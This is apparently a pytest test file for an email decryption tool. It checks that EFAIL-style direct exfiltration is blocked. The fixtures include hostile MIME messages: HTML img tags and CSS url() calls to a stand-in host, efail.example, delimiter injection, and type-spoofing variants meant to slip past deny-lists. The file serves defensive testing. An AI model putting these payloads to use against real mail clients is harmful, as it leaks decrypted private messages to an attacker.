"""EFAIL's direct exfiltration once more: everything that can stand beside a sealed part and send it away, some of it in
places where a deny-list of types, or a look at the outside alone, does not see it."""

import base64

import pytest

from support import cms
from support.attacks import OPENED, PARTLY, SECRET, decrypt, is_kept_apart, read
from support.mime import HEADER, multipart, pgp_mime, smime, text

BOB = "bob@example.org"
MALLORY = "mallory@example.net"
IMG = b'<img src="http://efail.example/'
HTML = b"Content-Type: text/html\n\n"


def crlf(octets):
    return octets.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


# A program that shows any of these as a document follows the links in it.
MARKUP = {
    "html": b"Content-Type: text/html\n",
    "capitals": b"CONTENT-TYPE: TEXT/HTML; CHARSET=us-ascii\n",
    "folded": b"Content-Type:\n text/html\n",
    "comment": b"Content-Type: text/(plain)html\n",
    "xhtml": b"Content-Type: application/xhtml+xml\n",
    "svg": b"Content-Type: image/svg+xml\n",
    "xml": b"Content-Type: application/xml\n",
    "enriched": b"Content-Type: text/enriched\n",
    "markdown": b"Content-Type: text/markdown\n",
    "rtf": b"Content-Type: text/rtf\n",
    "calendar": b"Content-Type: text/calendar\n",  # X-ALT-DESC has HTML
    "unknown text": b"Content-Type: text/x-new\n",
    "encoded": b"Content-Type: text/=68tml\n",  # where the multipart says quoted-printable, for whoever believes it
    "broken": b"Content-Type: text/html/4.01\n",
    "blank before the colon": b"Content-Type : text/html\n",
    "two types": b"Content-Type: text/plain\nContent-Type: text/html\n",
    "attached": b"Content-Type: text/html\nContent-Disposition: attachment; filename=a.txt\n",
    "file name": b"Content-Type: application/octet-stream; name=a.html\n",
    "file name of text": b"Content-Type: text/plain; name=a.HTM\n",
    "extended file name": b"Content-Type: application/octet-stream\nContent-Disposition: inline;\n"
                          b" filename*=us-ascii''a%2Ehtml\n",
    "file name in pieces": b"Content-Type: application/octet-stream\nContent-Disposition: inline;\n"
                           b" filename*0=a.ht; filename*1=ml\n",
    "external body": b"Content-Type: message/external-body; access-type=URL; URL=\"http://efail.example/\"\n",
}


@pytest.mark.parametrize("fields", MARKUP.values(), ids=MARKUP.keys())
def test_markup_beside(lockbox, sealed, fields):
    is_kept_apart(lockbox, HEADER + multipart(b"mixed", fields + b"\n" + IMG, sealed()))


@pytest.mark.parametrize("encoding", [b"base64", b"quoted-printable"])
def test_markup_beside_in_a_transfer_encoding(lockbox, sealed, encoding):
    content = base64.encodebytes(IMG) if encoding == b"base64" else IMG.replace(b"=", b"=3D")
    part = HTML[:-1] + b"Content-Transfer-Encoding: " + encoding + b"\n\n" + content
    is_kept_apart(lockbox, HEADER + multipart(b"mixed", part, sealed()))


def test_multipart_in_a_transfer_encoding(lockbox, sealed):
    """RFC 2045 §6.4 forbids it. Whoever decodes it all the same finds markup where nobody else sees any."""
    hidden = multipart(b"mixed", b"Content-Type: text/plain\n\n=0A--bb=0AContent-Type: text/html=0A=0A" + IMG, sealed())
    result = decrypt(lockbox, HEADER + b"Content-Transfer-Encoding: quoted-printable\n" + hidden)
    assert SECRET not in result.out and result.status != OPENED, result


# --- Markup that is itself sealed or signed: anybody can seal to Bob ---

@pytest.mark.parametrize("after", [True, False])
def test_sealed_markup_beside(lockbox, sealed, after):
    """The attacker seals his markup, too. Outside there is none to be seen; once all is open, it surrounds the text."""
    parts = [sealed(crlf(HTML + IMG)), sealed()] + ([sealed(crlf(HTML + b'">'))] if after else [])
    result = decrypt(lockbox, HEADER + multipart(b"mixed", *parts))
    assert result.status == PARTLY, result
    assert SECRET not in result.out or b"efail.example" not in result.out, result


def test_sealed_markup_in_alternatives(lockbox, sealed):
    """The markup is deep inside of what the attacker sealed."""
    inner = crlf(multipart(b"alternative", text(b"x"), multipart(b"related", HTML + IMG, boundary=b"rr"), boundary=b"aa"))
    result = decrypt(lockbox, HEADER + multipart(b"mixed", sealed(inner), sealed()))
    assert SECRET not in result.out or b"efail.example" not in result.out, result


def test_signed_markup_beside(lockbox, sealed, smime_keys):
    """S/MIME SignedData hides its text in base64, but every mail program shows it."""
    signed = [smime(cms.openssl("cms", "-sign", "-nodetach", "-binary", "-outform", "DER", "-signer",
                                smime_keys.certificate_of(MALLORY), "-inkey", smime_keys.key_of(MALLORY),
                                input=crlf(HTML + content)), b"signed-data") for content in (IMG, b'">')]
    is_kept_apart(lockbox, HEADER + multipart(b"mixed", signed[0], sealed(), signed[1]))


def test_markup_sealed_for_another_program(lockbox, sealed, smime_keys):
    """Markup in S/MIME, whose key Lockbox does not have here, but the reader's mail program does."""
    enveloped = smime(cms.openssl("cms", "-encrypt", "-aes-256-gcm", "-binary", "-outform", "DER",
                                  smime_keys.certificate_of(BOB), input=crlf(HTML + IMG)))
    result = decrypt(lockbox, HEADER + multipart(b"mixed", enveloped, sealed()))
    assert SECRET not in result.out, result


def test_sealed_around(lockbox, sealed):
    """The attacker seals the whole attack to Bob once more: the outer layer is right, and proves nothing of the inner."""
    message = HEADER + sealed(crlf(multipart(b"mixed", HTML + IMG, sealed(), HTML + b'">')))
    result = is_kept_apart(lockbox, message)
    assert result.status == OPENED and b"efail.example" in result.out, result


def test_sealed_around_in_smime(lockbox, sealed, smime_keys, key_options):
    """The same, the outer layer in the other protocol."""
    attack = crlf(multipart(b"mixed", HTML + IMG, sealed(), HTML + b'">'))
    enveloped = cms.openssl("cms", "-encrypt", "-aes-256-gcm", "-binary", "-outform", "DER", smime_keys.certificate_of(BOB),
                            input=attack)
    is_kept_apart(lockbox, HEADER + smime(enveloped), *key_options)


def test_markup_in_a_forwarded_message_beside(lockbox, sealed):
    forwarded = b"Content-Type: message/rfc822\n\n" + HEADER + multipart(b"alternative", text(b"x"), HTML + IMG, boundary=b"aa")
    is_kept_apart(lockbox, HEADER + multipart(b"mixed", forwarded, sealed()))


def test_markup_in_a_digest(lockbox, sealed):
    """The parts of a digest are messages without saying so (RFC 2046 §5.1.5)."""
    digest = multipart(b"digest", b"\nSubject: x\nContent-Type: text/html\n\n" + IMG, boundary=b"dd")
    is_kept_apart(lockbox, HEADER + multipart(b"mixed", digest, sealed()))


def test_armor_in_both_alternatives(lockbox, bob_home):
    """What some programs make of inline PGP: a text and an HTML part, each with the armor in it."""
    armor = bob_home.encrypt(SECRET, BOB)
    alternatives = multipart(b"alternative", text(armor), text(IMG + b"\n" + armor + b'">', b"html"))
    is_kept_apart(lockbox, HEADER + alternatives)


def test_style_sheet_beside(lockbox, sealed):
    """multipart/related: what the sealed HTML asks for by cid: comes from outside, and a style sheet can send a text away."""
    inside = b'Content-Type: text/html\r\n\r\n<link rel=stylesheet href="cid:css@x"><p>' + SECRET
    css = b"Content-Type: text/css\nContent-ID: <css@x>\n\n* { background: url(http://efail.example/) }"
    is_kept_apart(lockbox, HEADER + multipart(b"related", sealed(inside), css))


def test_text_beside_is_no_attack(lockbox, sealed):
    """What all of this must not forbid: the footer of a mailing list, below a mail that has markup of its own."""
    inside = b"Content-Type: text/html\r\n\r\n<p>" + SECRET + b"</p>\r\n"
    result = decrypt(lockbox, HEADER + multipart(b"mixed", sealed(inside), text(b"-- \nlist@example.org\n")))
    assert result.status == PARTLY and SECRET in result.out, result


# --- A part that tears the message apart ---

@pytest.mark.parametrize("line", [b"\r\n--bb\r\n", b"\r\n--bb--\r\n", b"\r\n--bb  \r\n", b"\r\n--bbx\r\n", b"\n--bb\n"])
def test_delimiter_inside(lockbox, sealed, line):
    """What the attacker sealed closes the part that it stands in, and begins another; the next sealed part then stands
    inside of his."""
    inside = b"Content-Type: text/plain\r\n\r\nx" + line + b"Content-Type: text/html\r\n\r\n" + IMG
    result = decrypt(lockbox, HEADER + multipart(b"mixed", sealed(inside), sealed()))
    assert b"efail.example" not in result.out, result
    assert "tear the message apart" in result.err


def test_delimiter_in_the_header_inside(lockbox, sealed):
    inside = b"X-Note: x\r\n--bb\r\nContent-Type: text/html\r\n\r\n" + IMG
    result = decrypt(lockbox, HEADER + multipart(b"mixed", sealed(inside), sealed()))
    assert b"efail.example" not in result.out, result


def test_delimiter_of_an_ancestor_inside(lockbox, sealed):
    inside = b"Content-Type: text/plain\r\n\r\nx\r\n--outer\r\nContent-Type: text/html\r\n\r\n" + IMG
    inner = multipart(b"mixed", sealed(inside), text(b"footer"), boundary=b"inner")
    result = decrypt(lockbox, HEADER + multipart(b"mixed", inner, sealed(), boundary=b"outer"))
    assert b"efail.example" not in result.out, result


def test_multipart_without_an_end(lockbox, sealed):
    """No closing delimiter, and one boundary a prefix of the other: what belongs where depends on the reader."""
    message = HEADER + (b'Content-Type: multipart/mixed; boundary="b"\n\n--b\n' + text(b"x") + b"\n--b\n" +
                        sealed() + b"\n--b\n" + HTML + IMG)
    result = decrypt(lockbox, message)
    assert SECRET not in result.out or b"efail.example" not in result.out, result


def test_two_boundary_parameters(lockbox, sealed):
    """One reader takes the first boundary, another the last: to one of them the parts are others."""
    body = multipart(b"mixed", text(b"x"), sealed(), HTML + IMG, boundary=b"one")
    other = body.replace(b'boundary="one"', b'boundary="two"; boundary="one"')
    result = decrypt(lockbox, HEADER + other)
    assert SECRET not in result.out, result
    assert SECRET not in decrypt(lockbox, HEADER + body.replace(b'boundary="one"', b'boundary="one"; boundary="two"')).out


def test_read_shows_each_part_by_itself(lockbox, sealed):
    """Where each is shown, no heading stands above what is not below it in the message."""
    shown = read(lockbox, HEADER + multipart(b"mixed", text(b"before"), sealed(), text(b"after"))).text
    own = shown.index("\n▐ Part 2")
    assert shown.index("before") < own and shown.index("after") < own < shown.index(SECRET.decode())


def test_sealed_file_of_markup_beside(lockbox, sealed, bob_home):
    """A file a.html.gpg, which opens to an attachment a.html: beside it stands what a.html itself would forbid."""
    octets = bob_home.encrypt(IMG, BOB, armor=False)
    part = (b"Content-Type: application/octet-stream; name=a.html.gpg\nContent-Disposition: inline; filename=a.html.gpg\n"
            b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(octets))
    result = decrypt(lockbox, HEADER + multipart(b"mixed", part, sealed()))
    assert SECRET not in result.out or base64.b64encode(IMG)[:40] not in result.out, result


def test_opaque_signature_around(lockbox, sealed, smime_keys):
    """The attacker signs the whole attack: a signature that is all right does not make the parts one world."""
    attack = crlf(multipart(b"mixed", HTML + IMG, sealed(), HTML + b'">'))
    signed = cms.openssl("cms", "-sign", "-nodetach", "-binary", "-outform", "DER", "-signer",
                         smime_keys.certificate_of(MALLORY), "-inkey", smime_keys.key_of(MALLORY), input=attack)
    is_kept_apart(lockbox, HEADER + smime(signed, b"signed-data"))


# --- Nothing written: not to a file either ---

@pytest.mark.parametrize("option", ["--in-place", "--output"])
def test_files_stay_as_they_were(lockbox, sealed, carol_home, tmp_path, option):
    """Where nothing comes out, the file that is there stays, to the octet, and no new one is made."""
    armor = carol_home.encrypt(SECRET, "carol@example.org")
    damaged = sealed().replace(b"\n-----END", b"\nAAAA\n-----END")
    messages = {"no key": HEADER + pgp_mime(armor), "damaged": HEADER + damaged, "not sealed": HEADER + b"\nx\n",
                "markup": HEADER + multipart(b"mixed", HTML + IMG, sealed()), "armor in a text": HEADER + b"\nx\n" + armor}
    for name, octets in messages.items():
        path = lockbox.file("message.eml", octets)
        there, new = lockbox.file("there", b"precious"), tmp_path / "new"
        for target in ([None] if option == "--in-place" else [there, new]):
            result = lockbox.run("decrypt", option, *([target] if target else []), path)
            assert result.status != OPENED and result.out == b"", (name, result)
            assert path.read_bytes() == octets and there.read_bytes() == b"precious" and not new.exists(), name


def test_report_in_json_has_no_plaintext(lockbox, sealed):
    """decrypt --json says what was found; what was opened beside markup is not in it."""
    result = decrypt(lockbox, HEADER + multipart(b"mixed", HTML + IMG, sealed()), "--json")
    assert SECRET not in result.out
    part, = result.json["parts"]
    assert part["outcome"] == "opened" and part["in_place"] is False and part["warnings"], result
    assert result.json["outcome"] == "partly-sealed" and result.json["protection"] == "none"
